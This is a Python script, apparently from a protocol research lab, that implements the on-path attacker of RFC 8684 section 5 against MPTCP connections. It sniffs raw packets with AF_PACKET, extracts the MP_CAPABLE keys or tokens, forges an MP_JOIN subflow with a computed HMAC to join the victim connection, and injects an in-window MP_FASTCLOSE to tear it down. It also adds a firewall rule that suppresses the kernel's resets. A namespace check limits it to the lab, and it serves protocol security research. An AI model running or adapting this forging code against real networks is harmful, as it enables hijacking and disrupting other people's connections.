#!/usr/bin/python3
"""attacker: the on-path attacker of RFC 8684 section 5 and of
draft-baerts-tcpm-mptcpext-00 section 5, with real packets, for the lab.

Run inside a router namespace of a netlab (never elsewhere: it sends
forged packets). It captures every packet on one interface of the router
(AF_PACKET), follows the first MPTCP connection to SERVER:PORT, learns what
is visible on the wire (the MP_CAPABLE keys in RFC 8684 mode, only the
tokens in E mode; addresses, ports, sequence numbers, timestamps), and on
command tries to
  join   open an MP_JOIN subflow to the server from --src (an address of
         this router) with the server's token, and complete the
         three-way handshake with the HMAC of RFC 8684 section 3.2 keyed
         with the keys it saw (E mode: with the tokens, its best guess);
  fastclose  inject an MP_FASTCLOSE (section 3.5) into the connection's
         first subflow, in window (SEQ, ACK and timestamps of the client's
         last segment), with the server's key it saw (E mode: a guess).

Protocol: one JSON object per line on stdout ({"ready": true} first), one
command per line on stdin: `state`, `join`, `fastclose`, `quit`. Every
captured packet (headers, 160 bytes) goes to --pcap for tshark.

Standard library only (no scapy): parsing and building a TCP/IP header is
a few lines, and a Python sniffer must keep up with a 25 Mbit/s transfer.

    ip netns exec mpxlabR-r1 /usr/bin/python3 lab/attacker.py --iface s \\
        --server 10.R.129.2 --port 8443 --src 10.R.193.1 --pcap r1.pcap
"""
import argparse
import hashlib
import hmac
import json
import os
import select
import socket
import struct
import subprocess
import sys
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from nettool import inet_csum  # noqa: E402 (next to this script)

ETH_P_ALL = 0x0003
ETH_P_IP = 0x0800
MPTCP = 30
SNAP = 160  # bytes of each packet kept in the pcap: headers with options
JOIN_PORT = 47001
JOIN_ADDR_ID = 7
SO_TIMESTAMPNS = 35  # asm-generic/socket.h (SCM_TIMESTAMPNS too)
TS_MARGIN = 20  # ms, see fastclose()
TH_FIN, TH_SYN, TH_RST, TH_PSH, TH_ACK = 0x01, 0x02, 0x04, 0x08, 0x10


def token_of(key):
    """RFC 8684 section 3.1: the token is the most significant 32 bits of
    SHA-256(key)."""
    return int.from_bytes(hashlib.sha256(key.to_bytes(8, "big")).digest()[:4], "big")


def parse(frame):
    """Ethernet + IPv4 + TCP -> dict, or None."""
    if len(frame) < 14 + 20 + 20 or struct.unpack("!H", frame[12:14])[0] != ETH_P_IP:
        return None
    ip = frame[14:]
    ihl = (ip[0] & 0x0F) * 4
    if ip[0] >> 4 != 4 or ip[9] != socket.IPPROTO_TCP or len(ip) < ihl + 20:
        return None
    total = struct.unpack("!H", ip[2:4])[0]
    tcp = ip[ihl:]
    sport, dport, seq, ack, off, flags, win = struct.unpack("!HHIIBBH", tcp[:16])
    doff = (off >> 4) * 4
    opts = tcp[20:doff]
    return {"src": socket.inet_ntoa(ip[12:16]), "dst": socket.inet_ntoa(ip[16:20]),
            "sport": sport, "dport": dport, "seq": seq, "ack": ack, "flags": flags,
            "win": win, "len": max(total - ihl - doff, 0), "opts": list(walk_opts(opts))}


def walk_opts(b):
    i = 0
    while i < len(b):
        kind = b[i]
        if kind == 0:
            return
        if kind == 1:
            i += 1
            continue
        if i + 1 >= len(b) or b[i + 1] < 2 or i + b[i + 1] > len(b):
            return
        yield kind, b[i + 2:i + b[i + 1]]
        i += b[i + 1]


def mptcp_opts(p):
    """[(subtype, option body after kind and length)]."""
    return [(body[0] >> 4, body) for kind, body in p["opts"] if kind == MPTCP and body]


def ts_of(p):
    for kind, body in p["opts"]:
        if kind == 8 and len(body) == 8:
            return struct.unpack("!II", body)
    return None


def tcp_packet(src, dst, sport, dport, seq, ack, flags, win, opts):
    """IPv4 + TCP with |opts| (raw bytes, padded here), checksums filled."""
    opts += b"\1" * (-len(opts) % 4)
    doff = 20 + len(opts)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, (doff // 4) << 4, flags, win, 0, 0)
    tcp += opts
    s, d = socket.inet_aton(src), socket.inet_aton(dst)
    pseudo = s + d + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", inet_csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0x5A5A, 0x4000, 64,
                     socket.IPPROTO_TCP, 0, s, d)
    ip = ip[:10] + struct.pack("!H", inet_csum(ip)) + ip[12:]
    return ip + tcp


class Pcap:
    def __init__(self, path):
        self.f = open(path, "wb") if path else None
        if self.f:
            self.f.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, SNAP, 1))

    def write(self, frame, t):
        if self.f:
            cut = frame[:SNAP]
            self.f.write(struct.pack("<IIII", int(t), int((t % 1) * 1e6), len(cut), len(frame)))
            self.f.write(cut)

    def close(self):
        if self.f:
            self.f.close()


class Attacker:
    def __init__(self, args):
        self.a = args
        self.lock = threading.Lock()
        self.cond = threading.Condition(self.lock)
        self.conn = None  # (client ip, client port) of the followed connection
        self.st = {"mode": None, "packets": 0}
        self.last_c2s = None  # the client's last segment on the followed subflow
        self.join_rx = []  # segments from the server to our join port
        self.pcap = Pcap(args.pcap)
        self.rx = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        self.rx.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
        self.rx.setsockopt(socket.SOL_SOCKET, SO_TIMESTAMPNS, 1)
        self.rx.bind((args.iface, 0))
        self.tx = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.stop = False

    # ---- capture ------------------------------------------------------------
    def sniff(self):
        while not self.stop:
            r, _, _ = select.select([self.rx], [], [], 0.2)
            if not r:
                continue
            frame, anc, _, _ = self.rx.recvmsg(65536, 64)
            at = time.time()
            for level, kind, data in anc:  # the kernel's receive time
                if level == socket.SOL_SOCKET and kind == SO_TIMESTAMPNS and len(data) >= 16:
                    sec, nsec = struct.unpack("qq", data[:16])
                    at = sec + nsec / 1e9
            self.pcap.write(frame, at)
            p = parse(frame)
            if p:
                p["at"] = at
                with self.lock:
                    self.see(p)
                    self.cond.notify_all()

    def see(self, p):
        a = self.a
        self.st["packets"] += 1
        if p["dst"] == a.src and p["dport"] == JOIN_PORT and p["sport"] == a.port:
            self.join_rx.append(p)
            return
        if (p["src"], p["sport"]) == (a.src, JOIN_PORT):
            return  # our own join segments
        c2s = p["dst"] == a.server and p["dport"] == a.port
        s2c = p["src"] == a.server and p["sport"] == a.port
        if not (c2s or s2c):
            return
        peer = (p["src"], p["sport"]) if c2s else (p["dst"], p["dport"])
        mp = mptcp_opts(p)
        if self.conn is None:
            if c2s and p["flags"] & TH_SYN and not p["flags"] & TH_ACK and \
                    any(st == 0 for st, _ in mp):
                self.conn = peer
                self.st.update(client=f"{peer[0]}:{peer[1]}", server=f"{a.server}:{a.port}")
            else:
                return
        if peer != self.conn:
            return
        for sub, body in mp:
            if sub == 0:
                self.learn_mpc(p, body)
        if c2s and not p["flags"] & (TH_SYN | TH_RST):
            self.last_c2s = p
        if s2c and not p["flags"] & TH_SYN:
            self.st["server_nxt"] = (p["seq"] + p["len"]) & 0xFFFFFFFF

    def learn_mpc(self, p, b):
        """MP_CAPABLE (RFC 8684 section 3.1; draft section 4.1 for E):
        body = subtype|version, flags, then keys or tokens."""
        ext = bool(b[1] & 0x08)
        syn, ack = p["flags"] & TH_SYN, p["flags"] & TH_ACK
        st = self.st
        st["mode"] = "ext" if ext else "rfc"
        if syn and ack and len(b) >= (6 if ext else 10):
            if ext:
                st["stoken"] = int.from_bytes(b[2:6], "big")
            else:
                st["skey"] = int.from_bytes(b[2:10], "big")
                st["stoken"] = token_of(st["skey"])
        elif not syn and ext and len(b) >= 10:
            st["ctoken"] = int.from_bytes(b[2:6], "big")
            st["stoken"] = int.from_bytes(b[6:10], "big")
        elif not syn and not ext and len(b) >= 18:
            st["ckey"] = int.from_bytes(b[2:10], "big")
            st["skey"] = int.from_bytes(b[10:18], "big")
            st["ctoken"], st["stoken"] = token_of(st["ckey"]), token_of(st["skey"])

    def state(self):
        with self.lock:
            out = dict(self.st)
        for k in ("ckey", "skey", "ctoken", "stoken"):
            if k in out:
                out[k] = f"{out[k]:0{16 if 'key' in k else 8}x}"
        return out

    # ---- keys as the attacker knows them -----------------------------------
    def hmac_key(self):
        """RFC 8684: Key-A || Key-B with A the joining host (the client).
        E mode: the keys never crossed the wire; the tokens are all the
        attacker has, so it tries them."""
        st = self.st
        if st.get("mode") == "rfc":
            return st["ckey"].to_bytes(8, "big") + st["skey"].to_bytes(8, "big")
        return st["ctoken"].to_bytes(4, "big") + st["stoken"].to_bytes(4, "big")

    # ---- attacks -------------------------------------------------------------
    def send(self, pkt, dst):
        self.tx.sendto(pkt, (dst, 0))

    def wait_join(self, pred, timeout):
        end = time.monotonic() + timeout
        with self.lock:
            while True:
                for p in self.join_rx:
                    if pred(p):
                        return p
                left = end - time.monotonic()
                if left <= 0:
                    return None
                self.cond.wait(left)

    def join(self):
        a = self.a
        with self.lock:
            if "stoken" not in self.st or "ctoken" not in self.st:
                return {"join": "nothing-learned"}
            key = self.hmac_key()
            k_bit = 0  # the initial external key has identifier 0 (draft 3)
            self.join_rx.clear()
        isn = int.from_bytes(os.urandom(4), "big")
        r_a = int.from_bytes(os.urandom(4), "big")
        # MP_JOIN SYN: B set (backup) so that the server's scheduler keeps
        # its data off a subflow nobody reads; MSS 1400
        mpj = bytes([MPTCP, 12, 0x10 | (k_bit << 1) | 0x01, JOIN_ADDR_ID])
        mpj += self.st["stoken"].to_bytes(4, "big") + r_a.to_bytes(4, "big")
        opts = b"\x02\x04\x05\x78" + mpj
        syn = tcp_packet(a.src, a.server, JOIN_PORT, a.port, isn, 0, TH_SYN, 64240, opts)
        synack = None
        for _ in range(3):  # the SYN may meet a busy queue: retry like TCP
            self.send(syn, a.server)
            synack = self.wait_join(lambda p: p["flags"] & (TH_SYN | TH_RST), 1.0)
            if synack:
                break
        if synack is None:
            return {"join": "no-answer"}
        if synack["flags"] & TH_RST:
            return {"join": "rst-to-syn", "rst": rst_reason(synack)}
        body = next((b for s, b in mptcp_opts(synack) if s == 1), None)
        if body is None or len(body) < 14:
            return {"join": "synack-without-mp-join"}
        r_b = int.from_bytes(body[10:14], "big")
        mac = hmac.new(key, r_a.to_bytes(4, "big") + r_b.to_bytes(4, "big"),
                       hashlib.sha256).digest()[:20]
        mpj = bytes([MPTCP, 24, 0x10 | (k_bit << 1), 0]) + mac
        ack = tcp_packet(a.src, a.server, JOIN_PORT, a.port, (isn + 1) & 0xFFFFFFFF,
                         (synack["seq"] + 1) & 0xFFFFFFFF, TH_ACK, 502, mpj)
        self.send(ack, a.server)
        # RFC 8684 section 3.2: the server confirms with a fourth ACK, or
        # refuses with a RST (MP_TCPRST reason)
        got = self.wait_join(lambda p: not p["flags"] & TH_SYN, 2.0)
        if got is None:
            return {"join": "no-fourth-ack"}
        if got["flags"] & TH_RST:
            return {"join": "rst", "rst": rst_reason(got)}
        return {"join": "acked", "sport": JOIN_PORT}

    def fastclose(self):
        """MP_FASTCLOSE on an ACK (RFC 8684 section 3.5, option A) of the
        client's last segment: in window for the server."""
        a = self.a
        with self.lock:
            last = self.last_c2s
            st = dict(self.st)
        if last is None or "stoken" not in st:
            return {"fastclose": "nothing-learned"}
        if st["mode"] == "rfc":
            value = st["skey"]  # the receiver's key
            byte2 = 0x70
        else:
            mac = hmac.new(self.hmac_key(), b"guess", hashlib.sha256).digest()
            value = int.from_bytes(mac[-8:], "big")
            byte2 = 0x70  # K = 0
        opts = b""
        ts = ts_of(last)
        if ts:
            # PAWS (RFC 7323 section 5): a TSval older than the server's
            # TS.Recent is dropped. The client's clock (1 ms ticks, as
            # Linux and the engine) went on since that segment passed here
            # (the kernel's capture time, whatever this script's lag), and
            # it had spent a few ms on the path before: TS_MARGIN covers
            # that and stays small (TS.Recent moves that far ahead)
            tsval = (ts[0] + int((time.time() - last["at"]) * 1000) + TS_MARGIN) & 0xFFFFFFFF
            opts += b"\1\1\x08\x0a" + struct.pack("!II", tsval, ts[1])
        opts += bytes([MPTCP, 12, byte2, 0]) + value.to_bytes(8, "big")
        seq = (last["seq"] + last["len"] + (1 if last["flags"] & TH_FIN else 0)) & 0xFFFFFFFF
        pkt = tcp_packet(last["src"], last["dst"], last["sport"], last["dport"], seq,
                         last["ack"], TH_ACK, last["win"], opts)
        self.send(pkt, a.server)
        return {"fastclose": "sent", "seq": seq, "ack": last["ack"], "ts": bool(ts)}


def quiet_kernel(src):
    """The router's kernel owns --src but has no socket on JOIN_PORT: it
    would answer the server's SYN/ACK with a RST. Drop those (this
    namespace only; it goes away with the lab)."""
    rule = (f"table inet mpxattack {{\n chain out {{\n  type filter hook output priority 0;\n"
            f"  ip saddr {src} tcp sport {JOIN_PORT} tcp flags & rst == rst drop\n }}\n}}\n")
    subprocess.run(["nft", "-f", "-"], input=rule, text=True, check=True, timeout=10)


def rst_reason(p):
    body = next((b for s, b in mptcp_opts(p) if s == 8), None)  # MP_TCPRST
    return body[1] if body is not None and len(body) >= 2 else None


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--iface", required=True, help="router interface to capture on")
    ap.add_argument("--server", required=True, help="server IPv4 address of the connection")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--src", required=True, help="an address of this router, for the join")
    ap.add_argument("--pcap", help="write every captured packet (headers) here")
    a = ap.parse_args()
    ns = subprocess.run(["ip", "netns", "identify", str(os.getpid())], capture_output=True,
                        text=True, timeout=10).stdout.strip()
    if not ns.startswith("mpxlab"):  # lab/netlab.py PREFIX
        sys.exit(f"attacker: refusing to run outside a lab namespace (in {ns or 'no netns'!r})")
    quiet_kernel(a.src)
    att = Attacker(a)
    th = threading.Thread(target=att.sniff, daemon=True)
    th.start()
    print(json.dumps({"ready": True}), flush=True)
    cmds = {"state": att.state, "join": att.join, "fastclose": att.fastclose}
    try:
        for line in sys.stdin:
            cmd = line.strip()
            if cmd == "quit":
                break
            fn = cmds.get(cmd)
            out = fn() if fn else {"error": f"unknown command {cmd!r}"}
            print(json.dumps(out), flush=True)
    finally:
        att.stop = True
        th.join(2)
        att.pcap.close()


if __name__ == "__main__":
    main()
